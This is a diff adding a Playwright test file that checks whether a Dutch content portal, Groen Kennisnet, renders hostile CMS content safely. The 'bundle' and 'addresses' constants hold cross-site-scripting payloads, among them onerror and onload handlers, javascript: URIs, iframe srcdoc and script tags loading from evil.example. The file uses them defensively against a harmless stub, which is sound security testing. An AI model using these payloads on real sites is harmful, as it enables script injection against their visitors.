@@ -1,0 +1,331 @@
+import { expect, type Page } from '@playwright/test';
+import { attackPayloads } from '#tests/contract/attackPayloads.ts';
+import { pointerOf, stringsIn, withStrings } from './helpers/mutations.ts';
+import { type OwnPortal, startPortal } from './helpers/ownPortal.ts';
+import { heading, menuButton, untilAlive } from './helpers/reading.ts';
+import { test } from './helpers/test.ts';
+import { hasSamples, readSamples, type Sample, samplesNote, startTestCms, type TestCms } from './samplesCms.ts';
+
+/*
+ * Contents that try to run a script on our readers' pages. A payload that runs calls `attacked()`; one that the
+ * browser's policy had to stop has already come too far, and one that asks `evil.example` for anything has, too.
+ */
+test.describe.configure({ mode: 'default' });
+
+declare global {
+  interface Window {
+    attacked?: () => void;
+    /** What got through, in words. */
+    caught?: string[];
+  }
+}
+
+let cms: TestCms;
+let portal: OwnPortal;
+
+test.beforeAll(async () => {
+  test.setTimeout(120_000);
+  cms = await startTestCms(readSamples().map(({ json }) => json));
+  cms.answer('/nl/groenkennisnet', pageOf('/nl/groenkennisnet', []));
+  portal = await startPortal({
+    CMS_BASE_URL: cms.origin,
+    PICTURE_HOSTS: `api.groenkennisnet.nl=${cms.origin}`,
+    // Every answer is shown as it is at that moment.
+    PAGE_CACHE_SECONDS: '0',
+  });
+});
+
+test.afterAll(async () => {
+  await portal?.close();
+  await cms?.close();
+});
+
+/** A page of the first site with these elements. */
+function pageOf(url: string, elements: readonly object[], title = 'Aanval') {
+  return {
+    type: 'page',
+    title,
+    url,
+    language: 'nl_NL',
+    metadata: { gkn_pagemetadata: { page_type: { id: 'content_page' } } },
+    contents: [{ area: 'main', elements }],
+  };
+}
+
+/** Everything the browser noticed since the page was opened. */
+interface Alarm {
+  readonly dialogs: string[];
+  readonly requests: string[];
+}
+
+async function listen(page: Page): Promise<Alarm> {
+  const alarm: Alarm = { dialogs: [], requests: [] };
+  page.on('dialog', (dialog) => {
+    alarm.dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  page.on('request', (request) => {
+    if (/^(?!https?:\/\/([\w-]+\.)?localhost[:/])(?!data:image\/svg)/.test(request.url()))
+      alarm.requests.push(request.url());
+  });
+  await page.addInitScript(() => {
+    const caught: string[] = [];
+    window.caught = caught;
+    window.attacked = () => caught.push('a script ran');
+    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
+      caught.push(`the policy stopped ${violatedDirective} ${blockedURI} ${sample}`);
+    });
+  });
+  return alarm;
+}
+
+/** Does to every element of the page what readers might: points at it, gives it the focus, presses it. */
+async function touchEverything(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    // Ordinary links would carry us away; those that would run a script are followed.
+    const stay = (event: Event) => {
+      const link = event.target instanceof Element ? event.target.closest('a, button, summary') : null;
+      if (!(link instanceof HTMLAnchorElement && /^\s*(javascript|data|vbscript)/i.test(link.href)))
+        event.preventDefault();
+    };
+    addEventListener('click', stay, { capture: true });
+    addEventListener('submit', (event) => event.preventDefault(), { capture: true });
+    for (const element of document.querySelectorAll<HTMLElement>('#portal *, [role="dialog"] *')) {
+      for (const type of [
+        'pointerover',
+        'mouseover',
+        'mouseenter',
+        'mousemove',
+        'focusin',
+        'focus',
+        'toggle',
+        'load',
+        'error',
+      ]) {
+        element.dispatchEvent(new MouseEvent(type, { bubbles: false, cancelable: true }));
+      }
+      if (element instanceof HTMLAnchorElement || element.tagName === 'AREA') element.click();
+    }
+    removeEventListener('click', stay, { capture: true });
+  });
+}
+
+async function expectHarmless(page: Page, alarm: Alarm, what: string): Promise<void> {
+  expect(await page.evaluate(() => window.caught), what).toEqual([]);
+  expect(alarm.dialogs, what).toEqual([]);
+  expect(alarm.requests, what).toEqual([]);
+}
+
+/** One string that tries many ways at once, none of which swallows the next. */
+const bundle = [
+  `"'><img src=x onerror=attacked()>`,
+  '<svg onload=attacked()></svg>',
+  '<svg><a xlink:href="javascript:attacked()"><text y="1em">lees</text></a></svg>',
+  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
+  '<a href="javascript:attacked()">lees</a>',
+  '<a href="/" onclick="attacked()">lees</a>',
+  '<p onmouseover="attacked()" tabindex="0">hallo</p>',
+  '<p style="background:url(https://evil.example/x.png)">hallo</p>',
+  '<img src="https://evil.example/x.png">',
+  '<details open ontoggle=attacked()><summary>meer</summary></details>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '</script><script>attacked()</script>',
+  '<script src="https://evil.example/x.js"></script>',
+].join('');
+
+/** Addresses that are none. */
+const addresses = [
+  'javascript:attacked()',
+  'java\tscript:attacked()',
+  'data:text/html,<script>opener.attacked()</script>',
+  '//evil.example/x',
+];
+
+/** Fields that say what a thing is: changed, the page would be another one or none. They are attacked one by one. */
+const structural =
+  /^(type|subtype|identifier|url|link|language|locale|id|value|contenttype|contentarea_template|contentarea_footer_template|source)$/;
+
+const isAddressField = /^(url|link|source|.*hyperlink|video_header.*|link_extra_image)$/;
+
+function addressOf({ json }: Sample): string {
+  return typeof json === 'object' && json !== null && 'url' in json ? String(json.url) : '';
+}
+
+/** Where readers meet a sample: its own page, or for a section the home page around which it stands. */
+function placeOf(sample: Sample): { path: string; site: string; isSection: boolean } {
+  const [, , cname = '', ...rest] = addressOf(sample)
+    .replace(/\.htm$/, '')
+    .split('/');
+  const isSection = addressOf(sample).includes('paginasectie');
+  return { site: cname, path: isSection ? '/' : `/${rest.join('/')}`, isSection };
+}
+
+for (const sample of readSamples()) {
+  const { path, site, isSection } = placeOf(sample);
+
+  test.describe(sample.name, () => {
+    test.afterEach(() => cms.answer(addressOf(sample), sample.json));
+
+    test('does nothing when all its texts at once carry attacks', async ({ page }) => {
+      const alarm = await listen(page);
+      const attacked = withStrings(sample.json, ({ field, value }) =>
+        structural.test(field) ? value : value + bundle,
+      );
+      cms.answer(addressOf(sample), attacked);
+      await page.goto(portal.address(path, site));
+      await untilAlive(page);
+      // The attack has reached the page: its words stand there, as words.
+      if (!isSection) await expect(heading(page)).toContainText('onerror=attacked()');
+      await menuButton(page).click();
+      await expect(page.getByRole('dialog')).toBeVisible();
+      await touchEverything(page);
+      await expectHarmless(page, alarm, 'texts');
+    });
+
+    test('does nothing when all its addresses at once are attacks', async ({ page }) => {
+      const alarm = await listen(page);
+      for (const address of addresses) {
+        const attacked = withStrings(sample.json, ({ field, value, path: place }) => {
+          if (field === 'html')
+            return value.replaceAll(/(href|src|action)="[^"]*"/g, () => `href="${address.replaceAll('"', '&quot;')}"`);
+          return isAddressField.test(field) && place.length > 1 ? address : value;
+        });
+        cms.answer(addressOf(sample), attacked);
+        await page.goto(portal.address(path, site));
+        await untilAlive(page);
+        await menuButton(page).click();
+        await expect(page.getByRole('dialog')).toBeVisible();
+        await touchEverything(page);
+        await expectHarmless(page, alarm, address);
+      }
+    });
+
+    test('sends no document with anything dangerous in it, whichever of its strings is the attack', async ({
+      page,
+    }) => {
+      await page.goto(portal.address('/deze-pagina-is-er-niet', site));
+      const found: string[] = [];
+      for (const place of stringsIn(sample.json)) {
+        for (const attack of isAddressField.test(place.field)
+          ? [place.value + bundle, 'javascript:attacked()']
+          : [place.value + bundle]) {
+          const here = pointerOf(place);
+          cms.answer(
+            addressOf(sample),
+            withStrings(sample.json, (other) => (pointerOf(other) === here ? attack : other.value)),
+          );
+          const dangers = await page.evaluate(inspect, path);
+          found.push(...dangers.map((danger) => `${here}: ${danger}`));
+        }
+      }
+      expect(found).toEqual([]);
+    });
+  });
+}
+
+/** Fetches a document, has the browser parse it without running it, and names what could harm. */
+async function inspect(path: string): Promise<string[]> {
+  const response = await fetch(path);
+  const text = await response.text();
+  const page = new DOMParser().parseFromString(text, 'text/html');
+  const dangers: string[] = [];
+  if (response.status >= 500 || !page.getElementById('portal')) dangers.push(`status ${response.status}, no page`);
+  for (const element of page.querySelectorAll('*')) {
+    const name = element.localName;
+    if (/^(iframe|frame|object|embed|base|style|portal|foreignobject|animate)$/.test(name)) dangers.push(`<${name}>`);
+    if (name === 'meta' && element.hasAttribute('http-equiv')) dangers.push('<meta http-equiv>');
+    const source = element.getAttribute('src') ?? '';
+    const isOwn = source.startsWith('/assets/') || (source === '' && element.id === 'portal-state');
+    if (name === 'script' && !isOwn) dangers.push(`<script src="${source}">${element.textContent}`);
+    for (const { name: attribute, value } of element.attributes) {
+      if (/^on|^srcdoc$|^formaction$/.test(attribute)) dangers.push(`<${name} ${attribute}>`);
+      if (!/^(href|src|action|xlink:href|data|poster)$/.test(attribute)) continue;
+      const { protocol, host } = new URL(value, location.href);
+      if (!/^(https?|mailto|tel):$/.test(protocol)) dangers.push(`<${name} ${attribute}="${value}">`);
+      const isLoaded =
+        name !== 'a' && host !== location.host && !/canonical|alternate/.test(element.getAttribute('rel') ?? '');
+      if (isLoaded || host === 'evil.example') dangers.push(`<${name} ${attribute}="${value}"> is elsewhere`);
+    }
+  }
+  return dangers;
+}
+
+test('every payload in every field of a text, a fold, a list, tiles and a picture does nothing', async ({ page }) => {
+  const alarm = await listen(page);
+  const url = '/nl/groenkennisnet/aanval';
+  const elements = attackPayloads.flatMap(({ text }) => [
+    { type: 'text', title: text, html: text },
+    { type: 'accordion', title: text, items: [{ title: text, html: text }] },
+    {
+      type: 'itemlist',
+      title: text,
+      items: [{ title: text, url: text, lead: text, location: text }],
+      more: { title: text, url: text },
+    },
+    { type: 'tiles', title: text, items: [{ title: text, url: text, lead: text }] },
+    {
+      type: 'image',
+      caption: text,
+      image: {
+        source: 'https://api.groenkennisnet.nl/upload_mm/foto.jpg',
+        alternative_text: text,
+        photographer: text,
+        photographer_hyperlink: text,
+        photo_license: text,
+        photo_license_hyperlink: text,
+      },
+    },
+    { type: text, html: text },
+  ]);
+  cms.answer(url, pageOf(url, elements));
+  const response = await page.goto(portal.address('/aanval'));
+  expect(response?.status()).toBe(200);
+  expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self';/);
+  await untilAlive(page);
+  await expect(page.getByRole('main').locator('details')).toHaveCount(attackPayloads.length);
+  await touchEverything(page);
+  await expectHarmless(page, alarm, 'all payloads');
+});
+
+test('plain-text fields show an attack as the text it is', async ({ page }) => {
+  const url = '/nl/groenkennisnet/letterlijk';
+  const attack = `<script>attacked()</script> & "aanval" <img src=x onerror='attacked()'>`;
+  cms.answer(url, {
+    ...pageOf(
+      url,
+      [
+        {
+          type: 'tiles',
+          title: `tegels ${attack}`,
+          items: [{ title: `tegel ${attack}`, url: '/nl/groenkennisnet', lead: `inleiding ${attack}` }],
+        },
+      ],
+      `titel ${attack}`,
+    ),
+    metadata: { gkn_pagemetadata: { page_type: { id: 'content_page' }, lead: `lead ${attack}` } },
+  });
+  await page.goto(portal.address('/letterlijk'));
+  await expect(heading(page)).toHaveText(`titel ${attack}`);
+  await expect(page).toHaveTitle(`titel ${attack} – Groen Kennisnet`);
+  await expect(page.getByRole('heading', { name: `tegels ${attack}` })).toBeVisible();
+  await expect(page.getByRole('link', { name: `tegel ${attack}` })).toBeVisible();
+  for (const field of ['lead', 'inleiding']) await expect(page.getByText(`${field} ${attack}`)).toBeVisible();
+  await expect(page.locator('meta[name="description"]')).toHaveAttribute('content', `lead ${attack}`);
+});
+
+test('what visitors type into the address is text, too', async ({ page }) => {
+  const alarm = await listen(page);
+  for (const { name, text } of attackPayloads.filter((payload) => /^(script|handler) /.test(payload.name))) {
+    const typed = encodeURIComponent(text);
+    const path = name.startsWith('script')
+      ? `/${typed}?language=${typed}`
+      : `/zoeken/${typed}?jaar=${typed}&srt=${typed}`;
+    await page.goto(portal.address(path));
+    await untilAlive(page);
+    await expectHarmless(page, alarm, path);
+  }
+});
+
+if (!hasSamples) {
+  test(`every string of the samples in turn is harmless${samplesNote}`, () => test.skip());
+}
